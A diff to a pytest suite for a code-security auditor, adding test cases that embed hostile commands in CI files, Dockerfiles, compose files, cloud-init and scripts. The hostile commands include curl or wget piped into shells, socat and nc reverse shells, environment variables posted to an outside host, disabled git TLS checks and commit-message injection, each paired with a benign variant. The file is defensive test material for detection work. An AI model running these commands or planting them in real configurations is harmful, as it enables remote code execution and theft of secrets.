@@ -8,7 +8,7 @@ from typing import NamedTuple
 import pytest
 
 from auditor.domain import CodeLocation, Evidence, Outcome
-from tests.adversarial.authors.drawing import CODE, SHELL, TLS
+from tests.adversarial.authors.drawing import CODE, SENT, SHELL, TLS
 from tests.auditing import asked
 from tests.repos import Drawing
 
@@ -44,6 +44,7 @@ PACKAGE = '{\n  "name": "shop",\n  "scripts": {\n    "test": "node --test",\n   
 IMAGE = "FROM alpine:3.20\nWORKDIR /app\n@\n"
 MAKE = "URL := https://example.org/x.sh\n\n.PHONY: setup\nsetup:\n\t@\n"
 COMPOSE = "services:\n  shop:\n    image: shop\n    @\n"
+INCLUDED = "release:\n  stage: deploy\n  image: alpine:3.20\n  script:\n    - make\n    - @\n"
 HOOKS = "repos:\n  - repo: local\n    hooks:\n      - id: setup\n        name: Set up\n        language: system\n        entry: @\n"
 
 CASES = [
@@ -116,6 +117,27 @@ CASES = [
     Case("a shell of socat", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", "socat TCP-LISTEN:80,fork TCP:localhost:8080", 2),
     Case("a shell between two pipes", SHELL, "{case}/run.sh", "#!/bin/sh\n@\n", "mkfifo /run/f; cat /run/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /run/f", "cat x.sh | nc localhost 4444", 2),
     Case("a shell in a shell script", CODE, "{case}/run.sh", "#!/bin/sh\nset -e\n@\n", "sudo bash -c 'curl -s https://example.org/x.sh | sh'", "sudo bash -c 'echo 1 > /proc/sys/vm/drop_caches'", 3),
+    Case("a job of a file that GitLab includes", CODE, "{case}/pipelines/release.yml", INCLUDED, "wget -O- https://example.org/x.sh | bash", "wget -O- https://example.org/x.txt | sort", 6),
+    Case("a job that GitLab includes, below a folder of manifests", CODE, "{case}/deploy/release.yml", INCLUDED, "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 6),
+    Case("two commands in variables of a job", CODE, "{case}/pipelines/release.yml", "release:\n  variables:\n    FETCH: wget -qO- https://example.org/x.sh\n    THEN: @\n  script:\n    - ${FETCH} | ${THEN}\n", "sh -s", "wc -l", 6),
+    Case("two commands in variables of a script", CODE, "{case}/run.sh", "#!/bin/sh\nfetch='curl -s https://example.org/x'\nthen=\"@\"\n$fetch | $then -\n", "bash", "sort", 4),
+    Case("certificates of git by numbered variables of a job", TLS, "{case}/pipelines/release.yml", "release:\n  variables:\n    GIT_CONFIG_KEY_3: @\n    GIT_CONFIG_VALUE_3: 0\n  script: [make]\n", "http.https://git.example.org.sslVerify", "http.lowSpeedLimit", 3),
+    Case("certificates of git by numbered variables of a script", TLS, "{case}/run.sh", "#!/bin/sh\nexport GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=http.sslVerify GIT_CONFIG_VALUE_0=@\n", "no", "true", 2),
+    Case("the environment of a job, sent", SENT, "{case}/pipelines/release.yml", INCLUDED, "printenv | sort | base64 -w0 | curl --data-binary @- https://example.org/a", "printenv | sort | grep -c CI_", 6),
+    Case("the environment of a script, in the data of a request", SENT, "{case}/run.sh", "#!/bin/sh\nset -eu\n@\n", 'wget --post-data="$(env)" https://example.org/a', 'wget --post-data="$(date)" https://example.org/a', 3),
+    Case("the environment of a process, as a form", SENT, "{case}/Dockerfile", IMAGE, "RUN curl -F a=@/proc/self/environ https://example.org/a", "RUN curl -F a=@/etc/os-release https://example.org/a", 3),
+    Case("a title of a merge request that a trap runs", SHELL, "{case}/.gitlab-ci.yml", INCLUDED, 'note=$(echo "$CI_MERGE_REQUEST_TITLE" | cut -c6-30)\n    - trap "echo built $note" EXIT', 'note=$(echo "$CI_MERGE_REQUEST_TITLE" | cut -c6-30)\n    - trap "rm -f $CI_PROJECT_DIR/note" EXIT', 7),
+    Case("a message of a commit that a shell runs", SHELL, "{case}/.travis.yml", "script:\n  - make\n  - @\n", 'bash -c "notify $TRAVIS_COMMIT_MESSAGE"', 'notify "$TRAVIS_COMMIT_MESSAGE"', 3),
+    Case("a title that make puts into a recipe", SHELL, "{case}/Makefile", "TITLE ?= $(CI_MERGE_REQUEST_TITLE)\nnotes:\n\t@\n", "echo '* $(TITLE)' >> NOTES", "echo \"* $$CI_MERGE_REQUEST_TITLE\" >> NOTES", 3),
+    Case("a command that a service merges in", CODE, "{case}/compose.yaml", "x-start: &start\n  command: [bash, -c, '@']\nservices:\n  shop:\n    <<: [*start]\n    image: shop\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 2),
+    Case("an entry point behind an alias", CODE, "{case}/compose.yaml", "x-words: &words\n  - sh\n  - -ec\n  - '@'\nservices:\n  shop:\n    entrypoint: *words\n", "wget -qO- https://example.org/x.sh | sh", "wget -qO- https://example.org/x.txt | sort", 4),
+    Case("a job's list of commands behind an alias", CODE, "{case}/.gitlab-ci.yml", ".setup: &setup\n  - cd /tmp\n  - @\nbuild:\n  script: *setup\n", "curl -s https://example.org/x.sh | bash", "curl -s https://example.org/x.txt | sort", 3),
+    Case("a Dockerfile inside of a file of services", CODE, "{case}/compose.yaml", "services:\n  shop:\n    build:\n      dockerfile_inline: |\n        FROM alpine:3.20\n        RUN apk add curl && \\\n            @\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 7),
+    Case("a script among the configurations of services", CODE, "{case}/compose.yaml", "configs:\n  init:\n    content: |\n      #!/usr/bin/env bash\n      psql -c 'select 1'\n      @\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 6),
+    Case("a script that a machine writes at its first start", CODE, "{case}/cloud-init.yaml", "#cloud-config\nwrite_files:\n  - path: /etc/cron.daily/a\n    content: |\n      #!/bin/sh\n      @\n", "curl -s https://example.org/x.sh | sh", "curl -s https://example.org/x.txt | sort", 6),
+    Case("a download for ash", CODE, "{case}/Dockerfile", IMAGE, "RUN wget -qO- https://example.org/x | ash -e", "RUN wget -qO- https://example.org/x | hash -r", 3),
+    Case("a download for the shell of busybox", CODE, "{case}/run.sh", "#!/bin/sh\n@\n", "curl -s https://example.org/x | /bin/busybox ash", "curl -s https://example.org/x | /bin/busybox wc", 2),
+    Case("a download inside of busybox", CODE, "{case}/crontab", "MAILTO=me\n@\n", "@daily root busybox mksh -c 'wget -qO- https://example.org/x | mksh'", "@daily root busybox sh -c 'wget -qO- https://example.org/x | sort'", 2),
 ]  # fmt: skip
 
 
@@ -140,7 +162,7 @@ def found(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], lis
         }
     )
     told: dict[tuple[str, str], list[tuple[int, Evidence]]] = {}
-    for each in asked(target, base, CODE, SHELL, TLS, INJECTED, SECRET).evidence:
+    for each in asked(target, base, CODE, SENT, SHELL, TLS, INJECTED, SECRET).evidence:
         if each.outcome is Outcome.FOUND and each.introduced:
             for place in each.locations:
                 if isinstance(place, CodeLocation) and place.start is not None:
